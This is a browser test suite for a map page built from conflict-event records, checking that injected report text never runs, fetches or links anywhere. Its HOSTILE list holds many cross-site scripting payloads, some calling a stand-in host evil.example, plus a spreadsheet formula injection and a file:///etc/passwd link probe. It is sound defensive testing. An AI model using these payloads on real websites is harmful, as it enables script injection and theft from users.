"""In a real browser a page asks for nothing, and text from reports stays text."""

import re
from dataclasses import replace

import pytest

from geo.reading import Span
from geo.record import RecordPlace
from geo.timespan import UNDATED
from maps.page import PageOptions

pytestmark = pytest.mark.browser

RAN = "window.ran = (window.ran || 0) + 1"
HOSTILE = (
    # Elements that run by themselves.
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</style><script>{RAN}</script>",
    f"</textarea><script>{RAN}</script>",
    f"</noscript><script>{RAN}</script>",
    f"<SCRIPT>{RAN}</SCRIPT>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<script/x>{RAN}</script>",
    f"<script\n>{RAN}</script\n>",
    f"<script type=module>{RAN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.ran=1></script>",
    f"<img src=x onerror='{RAN}'>",
    f'"><img src=x onerror="{RAN}">',
    f"'><img src=x onerror={RAN.replace(' ', '')}>",
    f"<img/src='x'/onerror='{RAN}'>",
    f"<svg onload='{RAN}'>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin='{RAN}' attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RAN}'><text>x</text></a></svg>",
    f"<math><mi xlink:href='javascript:{RAN}'>x</mi></math>",
    f"<body onload='{RAN}'>",
    f"<input autofocus onfocus='{RAN}'>",
    f"<details open ontoggle='{RAN}'>",
    f"<video><source onerror='{RAN}'></video>",
    f"<audio src=x onerror='{RAN}'>",
    f"<marquee onstart='{RAN}'>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'>",
    f"<iframe src='javascript:parent.{RAN}'></iframe>",
    f"<object data='javascript:{RAN}'></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x</button></form>",
    f"<a href='javascript:{RAN}'>x</a>",
    "<template shadowrootmode=open><slot></slot></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN.replace(' ', '')}>'>",
    # Addresses.
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java\tscript:{RAN}",
    f" javascript:{RAN}",
    f"\x01javascript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f"vbscript:{RAN}",
    "blob:https://evil.example/1",
    "https://evil.example/<script>",
    "//evil.example/x",
    # Ends of strings, templates and comments.
    f"${{{RAN}}}",
    f"`+({RAN})+`",
    f"{{{{ {RAN} }}}}",
    f"{{% raw %}}{RAN}{{% endraw %}}",
    f"<%= {RAN} %>",
    f"';{RAN};'",
    f'";{RAN};"',
    f"\\';{RAN};//",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"<!-- {RAN} --><script>",
    f"--><script>{RAN}</script>",
    "<!--<script>",
    f"]]><script>{RAN}</script>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;script&#62;{RAN}&#60;/script&#62;",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    # Names that objects have.
    "__proto__",
    "constructor",
    "toString",
    # Texts that confuse.
    "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "\u2028line\u2029paragraph",
    "NUL \0 and bell \a",
    "a lone surrogate \ud83d here",
    "\ufeffmark\ufffe and \uffff",
    "Z̗͖̀à̗͖l̗͖̀g̗͖̀ò̗͖" * 40,
    "x" * 5000,
    "العربية داخل النص",
    '=HYPERLINK("//evil.example")',
    "%00%3Cscript%3E",
)


def test_a_page_asks_for_nothing_and_complains_of_nothing(open_page, sample):
    opened = open_page(sample)
    opened.call("setRange", "2014-01-01", "2015-01-01")
    opened.call("select", "a")
    opened.page.get_by_role("button", name="Show all places").click()
    opened.settle()
    assert opened.requests == []
    assert opened.errors == []


def test_the_policy_stands_and_has_no_loophole(open_page, sample):
    policy = open_page(sample).page.evaluate(
        "document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]').content"
    )
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy


def test_what_slips_into_the_page_does_not_run(open_page, sample):
    opened = open_page(sample)
    opened.page.evaluate(
        """ran => new Promise(failed => {
            const script = document.createElement('script');
            script.textContent = ran;
            document.body.append(script);
            document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="${ran}">`);
            document.body.lastElementChild.addEventListener('error', failed);
        })""",
        RAN,
    )
    assert opened.page.evaluate("window.ran") is None
    assert len(opened.errors) == 2


def hostile_place(text):
    return RecordPlace(
        place_id=text, name=text, kind=text, country=text, admin1=text, role="location", text=text,
        mark=None, score=0.2, lon=40.0, lat=35.0,
    )  # fmt: skip


@pytest.fixture(scope="module")
def hostile_records(make_record):
    """Hostile texts in every field that holds any text."""
    plain = [
        make_record(
            f"{number} {text}", quote=f"{text} in Hasakah", trigger=Span(start=0, end=len(text)),
            type=text, label=text, title=text, source=text, attribution=text, document=text,
            date_text=text, actors=(text,), recipients=(text,), quantities=(text,),
            factuality="claimed", **({"when": UNDATED} if number % 2 else {}),
        )
        for number, text in enumerate(HOSTILE)
    ]  # fmt: skip
    return [
        replace(
            record, places=(*record.places, hostile_place(text)), differences=(text,),
            reasons=(text,), tellings=(record, record), mode=text, acled=text,
            actor_ids=(text,), actor_names=(text,), recipient_ids=(text,), recipient_names=(text,),
        )
        for record, text in zip(plain, HOSTILE, strict=True)
    ]  # fmt: skip


def test_there_are_enough_hostile_texts():
    assert len(set(HOSTILE)) >= 60


def test_hostile_text_runs_nothing_wherever_it_stands(open_page, hostile_records):
    options = PageOptions(title="".join(HOSTILE), credits=HOSTILE, lang=HOSTILE[0])
    opened = open_page(hostile_records, options)
    page = opened.page
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    for record in hostile_records:
        opened.call("select", record.id)
        page.evaluate("document.querySelectorAll('aside details').forEach(e => { e.open = true; })")
        opened.settle()
    page.get_by_role("searchbox").first.fill(HOSTILE[0])
    opened.until("() => dateline.address().includes('find=')")
    opened.settle()
    assert page.evaluate("window.ran") is None
    assert opened.requests == []
    assert opened.errors == []


def test_hostile_text_runs_nothing_in_addresses_files_and_other_languages(
    open_page, hostile_records
):
    opened = open_page(hostile_records)
    page = opened.page
    for record in hostile_records[::3]:
        opened.call("select", record.id)
        opened.call("open", opened.call("address"))
        assert page.locator("blockquote").first.inner_text() != ""
    for text in HOSTILE:
        opened.call("open", text)
        opened.call("open", f"find={text}&who={text}&event={text}&lang={text}&map={text}")
    opened.call("open", "")
    for lang in ("ar", "fr", *HOSTILE[:20]):
        opened.call("language", lang)
    page.locator(".menu-opener").click()
    for name in ("GeoJSON", "CSV"):
        with page.expect_download():
            page.locator(".menu").get_by_role("button", name=name).click()
    page.emulate_media(media="print")
    opened.settle()
    assert page.evaluate("window.ran") is None
    assert opened.requests == []
    assert opened.errors == []


@pytest.mark.parametrize("text", HOSTILE[:24])
def test_hostile_text_runs_nothing_as_whom_tiles_want_named(open_page, make_record, text):
    tiles = "http://127.0.0.1:9/{z}/{x}/{y}.png"
    opened = open_page([make_record("a")], PageOptions(tiles=tiles, attribution=text, title=text))
    assert opened.page.evaluate("window.ran") is None
    assert all(request.startswith("http://127.0.0.1:9/") for request in opened.requests)


def test_every_link_of_a_page_is_of_the_web_and_tells_nothing(open_page, hostile_records):
    opened = open_page(hostile_records)
    seen = set()
    for record in hostile_records:
        opened.call("select", record.id)
        opened.settle()
        links = opened.page.locator("a[href]").evaluate_all(
            "all => all.filter(a => !a.matches('.full-page')).map(a => [a.protocol, a.rel])"
        )
        seen |= {tuple(link) for link in links}
    assert seen == {("https:", "noopener noreferrer")}


def test_hostile_text_is_shown_as_it_stands(open_page, hostile_records):
    opened = open_page(hostile_records)
    for number, text in enumerate(HOSTILE[:17]):
        opened.call("select", f"{number} {text}")
        opened.settle()
        quoted = opened.page.locator("blockquote").first.text_content()
        assert quoted == f"{text} in Hasakah"
    assert opened.page.locator("aside img, aside script, aside iframe").count() == 0


@pytest.mark.parametrize(
    ("source", "link"),
    [
        ("https://news.example/a?b=1#c", "https://news.example/a?b=1#c"),
        ("http://news.example/", "http://news.example/"),
        ("javascript:alert(1)", None),
        ("data:text/html,x", None),
        ("file:///etc/passwd", None),
        ("reports/one.txt", None),
        ("//news.example/", None),
    ],
)
def test_only_addresses_of_the_web_become_links(open_page, make_record, source, link):
    opened = open_page([make_record("x", source=source)])
    opened.call("select", "x")
    opened.settle()
    links = opened.page.locator(".citation a")
    assert [links.nth(n).get_attribute("href") for n in range(links.count())] == [link][
        : bool(link)
    ]
    if link:
        assert links.get_attribute("rel") == "noopener noreferrer"


def test_tiles_are_asked_of_their_host_and_of_no_other(open_page, sample):
    options = PageOptions(
        tiles="http://127.0.0.1:9/{z}/{x}/{y}.png", attribution="<b>Tile</b> people"
    )
    opened = open_page(sample, options)
    opened.until(
        "() => { const tiles = [...document.querySelectorAll('.leaflet-tile')];"
        "return tiles.length > 0 && tiles.every(tile => tile.complete); }"
    )
    assert opened.requests
    assert all(re.match(r"http://127\.0\.0\.1:9/\d+/", request) for request in opened.requests)
    attribution = opened.page.locator(".leaflet-control-attribution").inner_text()
    assert attribution == "<b>Tile</b> people"
    opened.page.get_by_text("Sources", exact=True).click()
    assert opened.page.get_by_text("fetched from a server").is_visible()
